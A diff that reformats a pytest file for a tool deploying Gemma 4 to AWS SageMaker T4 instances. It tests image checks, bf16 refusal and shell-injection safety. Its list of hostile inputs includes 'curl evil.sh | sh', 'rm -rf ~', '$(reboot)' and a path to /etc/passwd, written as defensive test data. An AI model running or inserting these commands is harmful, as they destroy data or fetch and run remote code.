@@ -29,10 +29,21 @@ class ExplodingClient:
 
 def _cli(*argv: str) -> subprocess.CompletedProcess:
     # A subprocess with no AWS configuration at all: a dry run must not need any.
-    env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": ".", "AWS_CONFIG_FILE": "/dev/null",
-           "AWS_SHARED_CREDENTIALS_FILE": "/dev/null", "AWS_EC2_METADATA_DISABLED": "true"}
-    return subprocess.run([sys.executable, "-m", "gemma4_t4", *argv], capture_output=True, text=True, env=env,
-                          timeout=120, check=False)
+    env = {
+        "PATH": "/usr/bin:/bin",
+        "PYTHONPATH": ".",
+        "AWS_CONFIG_FILE": "/dev/null",
+        "AWS_SHARED_CREDENTIALS_FILE": "/dev/null",
+        "AWS_EC2_METADATA_DISABLED": "true",
+    }
+    return subprocess.run(
+        [sys.executable, "-m", "gemma4_t4", *argv],
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=120,
+        check=False,
+    )
 
 
 # -- fail closed on Turing ------------------------------------------------------------------------
@@ -60,13 +71,17 @@ def test_t4_with_the_stock_image_exits_nonzero_naming_problem_and_fix():
 def test_unfixed_images_refused_on_turing_before_any_call(instance):
     for uri in (STOCK, "123456789012.dkr.ecr.us-east-2.amazonaws.com/my-vllm:0.30.0"):
         with pytest.raises(Gemma4T4Error, match="lacks the Turing attention fix") as info:
-            deploy(DeployConfig(instance_type=instance, image_uri=uri, role_arn=ROLE), client=ExplodingClient(),
-                   ecr_client=ExplodingClient())
+            deploy(
+                DeployConfig(instance_type=instance, image_uri=uri, role_arn=ROLE),
+                client=ExplodingClient(),
+                ecr_client=ExplodingClient(),
+            )
         assert "build-image" in info.value.fix and "--allow-unfixed-image" in info.value.fix
     # a stock image inside a T4 fallback pool is refused too
     with pytest.raises(Gemma4T4Error, match="ml.g4dn.xlarge"):
-        DeployConfig(instance_type="ml.g6.xlarge", fallback_instance_types=["ml.g4dn.xlarge"],
-                     image_uri=STOCK).validate(require_role=False)
+        DeployConfig(
+            instance_type="ml.g6.xlarge", fallback_instance_types=["ml.g4dn.xlarge"], image_uri=STOCK
+        ).validate(require_role=False)
 
 
 def test_fixed_image_allowed_opt_out_and_non_turing_keep_the_stock_image():
@@ -83,12 +98,20 @@ def test_fixed_image_detection():
     assert image.carries_turing_fix(FIXED) is True
     assert image.carries_turing_fix(STOCK) is False
     assert image.carries_turing_fix(image.vllm_image_uri("af-south-1")) is False
-    assert image.carries_turing_fix("123456789012.dkr.ecr.us-east-2.amazonaws.com/gemma4-t4-vllm:latest") is None
-    assert image.select_latest_fixed_tag([
-        "0.30.0-gpu-py312-cu130-ubuntu24.04-sagemaker-v1.3-g4t4-0.1.0",
-        "0.30.0-gpu-py312-cu130-ubuntu24.04-sagemaker-v1.3-g4t4-0.10.0",
-        "0.29.0-gpu-py312-cu130-ubuntu24.04-sagemaker-v1.9-g4t4-9.0.0", "latest",
-    ]) == "0.30.0-gpu-py312-cu130-ubuntu24.04-sagemaker-v1.3-g4t4-0.10.0"  # numeric, not lexical
+    assert (
+        image.carries_turing_fix("123456789012.dkr.ecr.us-east-2.amazonaws.com/gemma4-t4-vllm:latest") is None
+    )
+    assert (
+        image.select_latest_fixed_tag(
+            [
+                "0.30.0-gpu-py312-cu130-ubuntu24.04-sagemaker-v1.3-g4t4-0.1.0",
+                "0.30.0-gpu-py312-cu130-ubuntu24.04-sagemaker-v1.3-g4t4-0.10.0",
+                "0.29.0-gpu-py312-cu130-ubuntu24.04-sagemaker-v1.9-g4t4-9.0.0",
+                "latest",
+            ]
+        )
+        == "0.30.0-gpu-py312-cu130-ubuntu24.04-sagemaker-v1.3-g4t4-0.10.0"
+    )  # numeric, not lexical
     assert image.required_ami_version(FIXED, "ml.g4dn.xlarge") == "al2023-ami-sagemaker-inference-gpu-4-1"
 
 
@@ -99,8 +122,17 @@ def test_ecr_image_in_another_region_is_refused():
 
 
 # -- injection through the printed recipe -----------------------------------------------------------
-HOSTILE = ["google/gemma-4-E2B-it\nrm -rf ~", "x; curl evil.sh | sh", "$(reboot)", "a`id`", "a b", "a'b",
-           "model\r\necho pwned", "--help", "../../etc/passwd\n"]
+HOSTILE = [
+    "google/gemma-4-E2B-it\nrm -rf ~",
+    "x; curl evil.sh | sh",
+    "$(reboot)",
+    "a`id`",
+    "a b",
+    "a'b",
+    "model\r\necho pwned",
+    "--help",
+    "../../etc/passwd\n",
+]
 
 
 @pytest.mark.parametrize("model_id", HOSTILE)
@@ -123,9 +155,13 @@ def _commands(recipe: list[str]) -> list[list[str]]:
 
 def test_recipe_round_trips_through_shlex_with_hostile_values():
     nasty = "a'b\"c $(x) `y` ; | & \n# z"
-    config = DeployConfig(name="g4-safe", image_uri=FIXED, extra_env={"SM_VLLM_SEED": nasty,
-                                                                      "NOTE": "line1\nline2; rm -rf /"},
-                          tags={"owner": nasty}, fallback_instance_types=["ml.g4dn.2xlarge"])
+    config = DeployConfig(
+        name="g4-safe",
+        image_uri=FIXED,
+        extra_env={"SM_VLLM_SEED": nasty, "NOTE": "line1\nline2; rm -rf /"},
+        tags={"owner": nasty},
+        fallback_instance_types=["ml.g4dn.2xlarge"],
+    )
     recipe = deployment_plan(config)
     argvs = _commands(recipe)
     assert all(argv[0] == "aws" for argv in argvs), argvs  # no line is anything but an aws command
@@ -145,13 +181,16 @@ def test_recipe_notes_stay_comments():
 
 
 # -- bf16 must not reach a T4 through an override ---------------------------------------------------
-@pytest.mark.parametrize("override", [
-    {"extra_env": {"SM_VLLM_DTYPE": "bfloat16"}},
-    {"extra_args": ["--dtype=bfloat16"]},
-    {"extra_args": ["--dtype", "bfloat16"]},
-    {"extra_args": ["--dtype", "auto"]},
-    {"dtype": "float16", "extra_env": {"SM_VLLM_DTYPE": "bfloat16"}},
-])
+@pytest.mark.parametrize(
+    "override",
+    [
+        {"extra_env": {"SM_VLLM_DTYPE": "bfloat16"}},
+        {"extra_args": ["--dtype=bfloat16"]},
+        {"extra_args": ["--dtype", "bfloat16"]},
+        {"extra_args": ["--dtype", "auto"]},
+        {"dtype": "float16", "extra_env": {"SM_VLLM_DTYPE": "bfloat16"}},
+    ],
+)
 def test_bf16_override_refused_on_t4(override):
     with pytest.raises(Gemma4T4Error, match="Turing has no bf16") as info:
         deploy(DeployConfig(role_arn=ROLE, image_uri=FIXED, **override), client=ExplodingClient())
